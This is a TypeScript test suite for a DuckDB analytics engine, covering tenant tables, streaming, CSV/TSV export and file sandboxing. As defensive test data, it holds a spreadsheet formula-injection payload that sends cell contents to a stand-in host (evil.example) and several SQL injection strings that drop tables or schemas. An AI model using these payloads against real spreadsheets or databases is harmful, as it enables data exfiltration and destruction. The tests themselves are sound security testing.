import { promises as fs } from "node:fs";
import path from "node:path";
import { gunzipSync } from "node:zlib";
import { afterEach, beforeEach, describe, expect, it } from "vitest";
import { AppError } from "../../../src/core/errors.js";
import { openDuckDb } from "../../../src/storage/duckdb/engine.js";
import { PROFILE, SALES, SALES_BY_RESELLER, USAGE } from "../../fixtures/analytics-datasets.js";
import { all, collect, makeEngine, sql, type TestEngine } from "./helpers.js";

let t: TestEngine;

beforeEach(async () => {
  t = await makeEngine();
});

afterEach(async () => {
  await t.cleanup();
});

const TENANT_A = "6f1a3c2e-8d4b-4e7a-9b1c-2d3e4f5a6b7c";
const TENANT_B = "0b9d8c7e-6f5a-4b3c-8d2e-1f0a9b8c7d6e";

async function columnsOf(schema: string, table: string) {
  return all(
    t.engine,
    "SELECT column_name, data_type, is_nullable FROM duckdb_columns() WHERE schema_name = $1 AND table_name = $2 ORDER BY column_index",
    [schema, table],
  );
}

describe("ensureTables", () => {
  it("creates one schema per program and one table per dataset, columns then measures then the tenant", async () => {
    await t.engine.ensureTables("mpn", [SALES, PROFILE]);
    expect(await columnsOf("mpn", "Sales")).toEqual([
      { column_name: "CustomerName", data_type: "VARCHAR", is_nullable: true },
      { column_name: "CustomerTenantId", data_type: "VARCHAR", is_nullable: true },
      { column_name: "CustomerMarket", data_type: "VARCHAR", is_nullable: true },
      { column_name: "Month", data_type: "DATE", is_nullable: true },
      { column_name: "Product", data_type: "VARCHAR", is_nullable: true },
      { column_name: "PaidSeats", data_type: "BIGINT", is_nullable: true },
      { column_name: "IsDuplicateRowForPGA", data_type: "BIGINT", is_nullable: true },
      { column_name: "BilledRevenueUSD", data_type: "DOUBLE", is_nullable: true },
      { column_name: "UpdatedAt", data_type: "TIMESTAMP", is_nullable: true },
      { column_name: "RawRevenue", data_type: "DOUBLE", is_nullable: true },
      { column_name: "_tenant_id", data_type: "VARCHAR", is_nullable: false },
    ]);
    expect((await columnsOf("mpn", "Profile")).map((c) => c.column_name)).toEqual([
      "MPNId",
      "PartnerName",
      "City",
      "Country",
      "HierarchyLevel",
      "_tenant_id",
    ]);
  });

  it("is idempotent and creates a shared table once with the union of its datasets' columns", async () => {
    await t.engine.ensureTables("mpn", [SALES, SALES_BY_RESELLER, PROFILE]);
    await t.engine.replaceTenantData("mpn", SALES, TENANT_A, [[{ CustomerName: "Contoso" }]]);
    await t.engine.ensureTables("mpn", [SALES, SALES_BY_RESELLER, PROFILE]);
    await t.engine.ensureTables("cmp", [USAGE]);
    await t.engine.ensureTables("cmp", [USAGE]);
    const tables = await all(
      t.engine,
      "SELECT schema_name, table_name FROM duckdb_tables() ORDER BY schema_name, table_name",
    );
    expect(tables).toEqual([
      { schema_name: "cmp", table_name: "Usage" },
      { schema_name: "mpn", table_name: "Profile" },
      { schema_name: "mpn", table_name: "Sales" },
    ]);
    const sales = (await columnsOf("mpn", "Sales")).map((c) => c.column_name);
    expect(sales.at(-2)).toBe("ResellerName");
    expect(sales.at(-1)).toBe("_tenant_id");
    expect(await all(t.engine, 'SELECT count(*) AS n FROM mpn."Sales"')).toEqual([{ n: 1 }]);
  });

  it("adds columns a newer catalog declares and refuses a changed type", async () => {
    await t.engine.ensureTables("mpn", [PROFILE]);
    const newer = { ...PROFILE, columns: [...PROFILE.columns, { name: "Region", type: "string" as const }] };
    await t.engine.ensureTables("mpn", [newer]);
    expect((await columnsOf("mpn", "Profile")).map((c) => c.column_name)).toContain("Region");
    const changed = {
      ...PROFILE,
      columns: PROFILE.columns.map((c) => (c.name === "City" ? { ...c, type: "integer" as const } : c)),
    };
    await expect(t.engine.ensureTables("mpn", [changed])).rejects.toThrow(
      /City is VARCHAR .* catalog says BIGINT/,
    );
  });
});

describe("stream", () => {
  beforeEach(async () => {
    await t.engine.ensureTables("mpn", [SALES]);
  });

  it("returns rows with JS values: numbers, ISO dates and timestamps, nulls", async () => {
    await t.engine.replaceTenantData("mpn", SALES, TENANT_A, [
      [
        {
          CustomerName: "Contoso",
          Month: "2024-02-01",
          PaidSeats: 12,
          BilledRevenueUSD: 1234.5,
          UpdatedAt: "2024-02-03T04:05:06Z",
          RawRevenue: 0.1,
        },
        { CustomerName: null, Month: null, PaidSeats: null, BilledRevenueUSD: null, UpdatedAt: null },
      ],
    ]);
    const rows = await all(
      t.engine,
      `SELECT "CustomerName", "Month", "PaidSeats", "BilledRevenueUSD", "UpdatedAt", "RawRevenue",
              count(*) OVER () AS n, sum("PaidSeats") OVER () AS total
       FROM mpn."Sales" WHERE "_tenant_id" = $1 ORDER BY "CustomerName" NULLS LAST`,
      [TENANT_A],
    );
    expect(rows).toEqual([
      {
        CustomerName: "Contoso",
        Month: "2024-02-01",
        PaidSeats: 12,
        BilledRevenueUSD: 1234.5,
        UpdatedAt: "2024-02-03T04:05:06Z",
        RawRevenue: 0.1,
        n: 2,
        total: 12,
      },
      {
        CustomerName: null,
        Month: null,
        PaidSeats: null,
        BilledRevenueUSD: null,
        UpdatedAt: null,
        RawRevenue: null,
        n: 2,
        total: 12,
      },
    ]);
  });

  it("keeps integers beyond 2^53 exact as bigint", async () => {
    const rows = await all(
      t.engine,
      "SELECT 9007199254740993::BIGINT AS big, 42::BIGINT AS small, 2::HUGEINT AS h",
    );
    expect(rows).toEqual([{ big: 9007199254740993n, small: 42, h: 2 }]);
  });

  it("binds string, number, bigint, boolean and null parameters", async () => {
    const rows = await all(
      t.engine,
      "SELECT $1 AS s, $2 AS i, $3 AS d, $4 AS b, $5 AS t, $6 IS NULL AS n, CAST($7 AS DATE) AS day, $8 AS big",
      ["x'y", 7, 2.5, 12345678901234n, true, null, "2024-03-01", 3_000_000_000],
    );
    expect(rows).toEqual([
      { s: "x'y", i: 7, d: 2.5, b: 12345678901234, t: true, n: true, day: "2024-03-01", big: 3_000_000_000 },
    ]);
  });

  it("yields batches of at most 2048 rows as the rows are fetched", async () => {
    const batches = await collect(t.engine.stream(sql("SELECT range AS i FROM range(5000)")));
    expect(batches.map((b) => b.length)).toEqual([2048, 2048, 904]);
    expect(batches.flat().map((r) => r.i)).toEqual(Array.from({ length: 5000 }, (_, i) => i));
  });

  it("does not materialise the result: the first batch arrives long before a huge result could", async () => {
    const started = performance.now();
    let first = 0;
    for await (const batch of t.engine.stream(sql("SELECT range AS i FROM range(10000000000)"))) {
      first = batch.length;
      break; // leaving early releases the connection
    }
    expect(first).toBe(2048);
    expect(performance.now() - started).toBeLessThan(5000);
  });

  it("runs concurrent streams independently", async () => {
    const a = t.engine.stream(sql("SELECT range AS i FROM range(3000)"))[Symbol.asyncIterator]();
    const b = t.engine.stream(sql("SELECT -range AS i FROM range(3000)"))[Symbol.asyncIterator]();
    const a1 = await a.next();
    const b1 = await b.next();
    const a2 = await a.next();
    const b2 = await b.next();
    expect(a1.value?.[0]).toEqual({ i: 0 });
    expect(b1.value?.[0]).toEqual({ i: 0 });
    expect(a2.value?.[0]).toEqual({ i: 2048 });
    expect(b2.value?.[0]).toEqual({ i: -2048 });
    expect((await a.next()).done).toBe(true);
    expect((await b.next()).done).toBe(true);
  });

  it("aborts a long-running query through the signal", async () => {
    const controller = new AbortController();
    const reason = new AppError("timeout", "too slow");
    setTimeout(() => controller.abort(reason), 100);
    const started = performance.now();
    await expect(
      collect(
        t.engine.stream(sql("SELECT count(*) FROM range(100000000000) a WHERE a.range % 7 = 3"), {
          signal: controller.signal,
        }),
      ),
    ).rejects.toBe(reason);
    expect(performance.now() - started).toBeLessThan(5000);
    // The engine stays usable.
    expect(await all(t.engine, "SELECT 1 AS x")).toEqual([{ x: 1 }]);
  });

  it("aborts between batches and refuses an already aborted signal", async () => {
    const controller = new AbortController();
    const seen: number[] = [];
    await expect(
      (async () => {
        for await (const batch of t.engine.stream(sql("SELECT range FROM range(1000000)"), {
          signal: controller.signal,
        })) {
          seen.push(batch.length);
          controller.abort();
        }
      })(),
    ).rejects.toMatchObject({ name: "AbortError" });
    expect(seen).toEqual([2048]);
    await expect(
      collect(t.engine.stream(sql("SELECT 1"), { signal: controller.signal })),
    ).rejects.toMatchObject({
      name: "AbortError",
    });
  });

  it("reports a parameter count mismatch and SQL errors as AppErrors", async () => {
    await expect(collect(t.engine.stream(sql("SELECT $1 AS a", [])))).rejects.toMatchObject({
      code: "internal",
      message: expect.stringMatching(/1 parameter\(s\) but 0 value\(s\)/),
    });
    await expect(collect(t.engine.stream(sql("SELECT * FROM nowhere")))).rejects.toBeInstanceOf(AppError);
  });
});

describe("tableCounts and tenant data", () => {
  it("counts rows per dataset and tenant; replace swaps only that tenant's rows", async () => {
    await t.engine.ensureTables("mpn", [SALES, SALES_BY_RESELLER, PROFILE]);
    await t.engine.appendTenantData("mpn", SALES, TENANT_A, [[{ CustomerName: "a" }, { CustomerName: "b" }]]);
    await t.engine.appendTenantData("mpn", SALES, TENANT_B, [[{ CustomerName: "c" }]]);
    await t.engine.replaceTenantData("mpn", SALES, TENANT_A, [[{ CustomerName: "z" }]]);
    const counts = await t.engine.tableCounts("mpn", [SALES, SALES_BY_RESELLER, PROFILE]);
    expect(counts).toEqual([
      {
        dataset: "Sales",
        table: "Sales",
        exists: true,
        tenants: [
          { tenantId: TENANT_B, rows: 1 },
          { tenantId: TENANT_A, rows: 1 },
        ].sort((x, y) => x.tenantId.localeCompare(y.tenantId)),
      },
      {
        dataset: "SalesByReseller",
        table: "Sales",
        exists: true,
        tenants: [
          { tenantId: TENANT_B, rows: 1 },
          { tenantId: TENANT_A, rows: 1 },
        ].sort((x, y) => x.tenantId.localeCompare(y.tenantId)),
      },
      { dataset: "Profile", table: "Profile", exists: true, tenants: [] },
    ]);
    expect(await t.engine.tableCounts("cmp", [USAGE])).toEqual([
      { dataset: "Usage", table: "Usage", exists: false, tenants: [] },
    ]);
    expect(await t.engine.deleteTenantRows("mpn", SALES, [TENANT_A, TENANT_B])).toBe(2);
  });

  it("rejects unknown columns and bad values without writing anything", async () => {
    await t.engine.ensureTables("mpn", [SALES]);
    await expect(
      t.engine.appendTenantData("mpn", SALES, TENANT_A, [[{ CustomerName: "a", Nope: 1 }]]),
    ).rejects.toMatchObject({ code: "invalid_data", message: expect.stringMatching(/Unknown column Nope/) });
    await expect(
      t.engine.appendTenantData("mpn", SALES, TENANT_A, [
        [{ CustomerName: "a", Month: "2024-01-01" }],
        [{ CustomerName: "b", Month: "2024-02-30" }],
      ]),
    ).rejects.toMatchObject({
      code: "invalid_data",
      details: { column: "Month", row: 2 },
    });
    expect(await all(t.engine, 'SELECT count(*) AS n FROM mpn."Sales"')).toEqual([{ n: 0 }]);
  });
});

describe("exportTo", () => {
  const TRICKY = `
    SELECT * FROM (VALUES
      (1, 'plain', DATE '2024-01-05', TIMESTAMP '2024-01-05 10:11:12.345678', 1.5::DOUBLE, 10::BIGINT),
      (2, 'comma, inside', DATE '2023-12-31', TIMESTAMP '1999-12-31 23:59:59', 0.1::DOUBLE, -3::BIGINT),
      (3, 'quote "inside"', NULL, NULL, 100.0::DOUBLE, NULL),
      (4, E'new\\nline', DATE '2024-02-29', TIMESTAMP '2024-02-29 00:00:00', 1e20::DOUBLE, 9007199254740993::BIGINT),
      (5, E'tab\\there', NULL, NULL, NULL, 0::BIGINT),
      (6, '', NULL, NULL, -2.25::DOUBLE, NULL),
      (7, NULL, NULL, NULL, NULL, NULL),
      (8, 'ünïcødé ☃ 😀', NULL, NULL, NULL, NULL),
      (9, E'cr\\rlf', NULL, NULL, NULL, NULL)
    ) AS t("Id", "Text", "Day", "At", "Amount", "Big")
    ORDER BY "Id"`;

  it("writes CSV with a header, RFC 4180 quoting, ISO dates, ISO-Z timestamps and empty NULLs", async () => {
    const file = path.join(t.exportDir, "out.csv");
    const result = await t.engine.exportTo(sql(TRICKY), file, { format: "csv" });
    const text = await fs.readFile(file, "utf8");
    expect(text).toBe(
      [
        "Id,Text,Day,At,Amount,Big",
        "1,plain,2024-01-05,2024-01-05T10:11:12Z,1.5,10",
        '2,"comma, inside",2023-12-31,1999-12-31T23:59:59Z,0.1,-3',
        '3,"quote ""inside""",,,100.0,',
        '4,"new\nline",2024-02-29,2024-02-29T00:00:00Z,1e+20,9007199254740993',
        "5,tab\there,,,,0",
        '6,"",,,-2.25,',
        "7,,,,,",
        "8,ünïcødé ☃ 😀,,,,",
        '9,"cr\rlf",,,,',
        "",
      ].join("\n"),
    );
    expect(result).toEqual({ rowCount: 9, bytes: Buffer.byteLength(text), dataVersion: "0" });
  });

  it("spreadsheetSafe prefixes formula-like text cells with ' and leaves numbers, dates and NULLs as they are", async () => {
    const FORMULAS = `
      SELECT * FROM (VALUES
        (1, '=HYPERLINK("http://evil.example/?"&A1,"x")', -5::BIGINT, DATE '2024-01-05'),
        (2, '+1+2', -2.5::DOUBLE, NULL),
        (3, '-3', 0::BIGINT, NULL),
        (4, '@SUM(A1)', NULL, NULL),
        (5, E'\tTAB', NULL, NULL),
        (6, E'\rCR', NULL, NULL),
        (7, 'plain = fine', NULL, NULL),
        (8, NULL, NULL, NULL),
        (9, '', NULL, NULL)
      ) AS t("Id", "Text", "Amount", "Day")
      ORDER BY "Id"`;
    const safe = path.join(t.exportDir, "safe.csv");
    await t.engine.exportTo(sql(FORMULAS), safe, { format: "csv", spreadsheetSafe: true });
    expect(await fs.readFile(safe, "utf8")).toBe(
      [
        "Id,Text,Amount,Day",
        `1,"'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-5.0,2024-01-05`,
        "2,'+1+2,-2.5,",
        "3,'-3,0.0,",
        "4,'@SUM(A1),,",
        "5,'\tTAB,,",
        `6,"'\rCR",,`,
        "7,plain = fine,,",
        "8,,,",
        '9,"",,',
        "",
      ].join("\n"),
    );
    const raw = path.join(t.exportDir, "raw.csv");
    await t.engine.exportTo(sql(FORMULAS), raw, { format: "csv" });
    expect((await fs.readFile(raw, "utf8")).split("\n")[3]).toBe("3,-3,0.0,");
  });

  it("writes TSV, quoting values that contain a tab, a newline or a quote", async () => {
    const file = path.join(t.exportDir, "out.tsv");
    const result = await t.engine.exportTo(sql(TRICKY), file, { format: "tsv" });
    const text = await fs.readFile(file, "utf8");
    expect(text).toBe(
      [
        "Id\tText\tDay\tAt\tAmount\tBig",
        "1\tplain\t2024-01-05\t2024-01-05T10:11:12Z\t1.5\t10",
        "2\tcomma, inside\t2023-12-31\t1999-12-31T23:59:59Z\t0.1\t-3",
        '3\t"quote ""inside"""\t\t\t100.0\t',
        '4\t"new\nline"\t2024-02-29\t2024-02-29T00:00:00Z\t1e+20\t9007199254740993',
        '5\t"tab\there"\t\t\t\t0',
        '6\t""\t\t\t-2.25\t',
        "7\t\t\t\t\t",
        "8\tünïcødé ☃ 😀\t\t\t\t",
        '9\t"cr\rlf"\t\t\t\t',
        "",
      ].join("\n"),
    );
    expect(result.rowCount).toBe(9);
  });

  it("gzips on request (and only then), with the same content", async () => {
    const plain = path.join(t.exportDir, "plain.csv");
    const zipped = path.join(t.exportDir, "zipped.csv.gz");
    const notZipped = path.join(t.exportDir, "looks-zipped.csv.gz");
    await t.engine.exportTo(sql(TRICKY), plain, { format: "csv" });
    const result = await t.engine.exportTo(sql(TRICKY), zipped, { format: "csv", compression: "gzip" });
    await t.engine.exportTo(sql(TRICKY), notZipped, { format: "csv", compression: "none" });
    const gz = await fs.readFile(zipped);
    expect(gz.subarray(0, 2)).toEqual(Buffer.from([0x1f, 0x8b]));
    expect(gunzipSync(gz).toString("utf8")).toBe(await fs.readFile(plain, "utf8"));
    expect(result).toEqual({ rowCount: 9, bytes: gz.length, dataVersion: "0" });
    expect(await fs.readFile(notZipped, "utf8")).toBe(await fs.readFile(plain, "utf8"));
  });

  it("writes only the header for an empty result", async () => {
    const file = path.join(t.exportDir, "empty.csv");
    const result = await t.engine.exportTo(sql('SELECT 1 AS "A", 2 AS "B" WHERE false'), file, {
      format: "csv",
    });
    expect(await fs.readFile(file, "utf8")).toBe("A,B\n");
    expect(result).toEqual({ rowCount: 0, bytes: 4, dataVersion: "0" });
  });

  it("binds parameters: hostile strings are only ever values", async () => {
    await t.engine.ensureTables("mpn", [SALES]);
    const hostile = [
      '\'; DROP TABLE mpn."Sales"; --',
      "x' OR '1'='1",
      "/* comment */ 1",
      '"; DROP SCHEMA mpn CASCADE; --',
      "$1",
      "\\'; SELECT 1; --",
      "Ünï'cödé 😀 ''",
      "line\nbreak",
    ];
    await t.engine.appendTenantData("mpn", SALES, TENANT_A, [hostile.map((h) => ({ CustomerName: h }))]);
    for (const [i, value] of hostile.entries()) {
      const file = path.join(t.exportDir, `h${i}.csv`);
      const result = await t.engine.exportTo(
        sql(
          'SELECT "CustomerName", $2 AS "Echo" FROM mpn."Sales" WHERE "_tenant_id" = $1 AND "CustomerName" = $2',
          [TENANT_A, value],
        ),
        file,
        { format: "csv" },
      );
      expect(result.rowCount).toBe(1);
      const quoted = /[",\n\r]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
      expect(await fs.readFile(file, "utf8")).toBe(`CustomerName,Echo\n${quoted},${quoted}\n`);
    }
    expect(await all(t.engine, 'SELECT count(*) AS n FROM mpn."Sales"')).toEqual([{ n: hostile.length }]);
  });

  it("refuses paths outside the allowed directories, before DuckDB's sandbox would", async () => {
    await expect(
      t.engine.exportTo(sql("SELECT 1"), path.join(t.dir, "elsewhere.csv"), { format: "csv" }),
    ).rejects.toMatchObject({ code: "internal", message: expect.stringMatching(/outside/) });
    await expect(
      t.engine.exportTo(sql("SELECT 1"), path.join(t.exportDir, "..", "escape.csv"), { format: "csv" }),
    ).rejects.toMatchObject({ code: "internal" });
  });

  it("is sandboxed: SQL cannot read or write files outside the allowed directories", async () => {
    const outside = path.join(t.dir, "secret.csv");
    await fs.writeFile(outside, "a\n1\n");
    await expect(all(t.engine, `SELECT * FROM read_csv('${outside}')`)).rejects.toThrow(
      /Permission|disabled/,
    );
    await expect(all(t.engine, `COPY (SELECT 1) TO '${path.join(t.dir, "x.csv")}'`)).rejects.toThrow(
      /Permission|disabled/,
    );
    await expect(all(t.engine, "SET enable_external_access = true")).rejects.toThrow(/locked/);
    await expect(all(t.engine, "INSTALL httpfs")).rejects.toThrow();
  });

  it("can be aborted and removes the partial file", async () => {
    const file = path.join(t.exportDir, "slow.csv");
    const controller = new AbortController();
    setTimeout(() => controller.abort(), 100);
    await expect(
      t.engine.exportTo(sql("SELECT a.range, md5(a.range::VARCHAR) FROM range(10000000000) a"), file, {
        format: "csv",
        signal: controller.signal,
      }),
    ).rejects.toMatchObject({ name: "AbortError" });
    await expect(fs.stat(file)).rejects.toThrow();
  });
});

describe("openDuckDb", () => {
  it("sets memory_limit, threads and the UTC time zone", async () => {
    const rows = await all(
      t.engine,
      `SELECT current_setting('threads') AS threads, current_setting('memory_limit') AS mem,
              CAST(TIMESTAMPTZ '2024-01-01 00:30:00+02:00' AS TIMESTAMP) AS utc`,
    );
    expect(rows).toEqual([{ threads: 2, mem: "953.6 MiB", utc: "2023-12-31T22:30:00Z" }]);
  });

  it("honours explicit limits, refuses bad ones and a second open of the same file", async () => {
    const other = await makeEngine({ memoryLimit: "256MB", threads: 1 });
    try {
      expect(
        await all(
          other.engine,
          "SELECT current_setting('threads') AS threads, current_setting('memory_limit') AS mem",
        ),
      ).toEqual([{ threads: 1, mem: "244.1 MiB" }]);
      await expect(openDuckDb({ path: other.engine.path })).rejects.toMatchObject({ code: "unavailable" });
    } finally {
      await other.cleanup();
    }
    await expect(openDuckDb({ path: ":memory:", memoryLimit: "lots" })).rejects.toMatchObject({
      code: "invalid_argument",
    });
    await expect(openDuckDb({ path: ":memory:", threads: 0 })).rejects.toMatchObject({
      code: "invalid_argument",
    });
  });

  it("keeps data across close and reopen; refuses work after close", async () => {
    await t.engine.ensureTables("mpn", [PROFILE]);
    await t.engine.appendTenantData("mpn", PROFILE, TENANT_A, [[{ MPNId: "1234567" }]]);
    const dbPath = t.engine.path;
    await t.engine.close();
    await expect(all(t.engine, "SELECT 1")).rejects.toMatchObject({ code: "unavailable" });
    const reopened = await openDuckDb({ path: dbPath });
    try {
      expect(await all(reopened, 'SELECT "MPNId" FROM mpn."Profile"')).toEqual([{ MPNId: "1234567" }]);
    } finally {
      await reopened.close();
    }
  });
});
